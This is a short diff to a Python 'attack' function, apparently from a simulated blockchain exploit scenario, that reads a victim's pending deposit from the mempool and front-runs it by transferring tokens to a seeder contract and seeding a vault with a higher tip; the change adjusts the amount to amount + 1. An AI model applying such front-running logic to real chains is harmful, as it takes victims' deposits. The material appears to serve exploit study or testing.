@@ -43,7 +43,7 @@ async def attack(ctx: ScenarioContext) -> list[TxHash]:
             raise RuntimeError("the victim's deposit is not pending")
         amount, _receiver = decode(["uint256", "address"], pending[0].data[4:])
         funded = await ctx.send(
-            me, ctx.address("usd"), ctx.abi("usd"), "transfer", seeder, amount, tip_wei=20 * 10**9, wait=False
+            me, ctx.address("usd"), ctx.abi("usd"), "transfer", seeder, amount + 1, tip_wei=20 * 10**9, wait=False
         )
         seeded = await ctx.send(me, seeder, abi, "seed", vault, amount, tip_wei=20 * 10**9, wait=False)
         await ctx.client.mine()
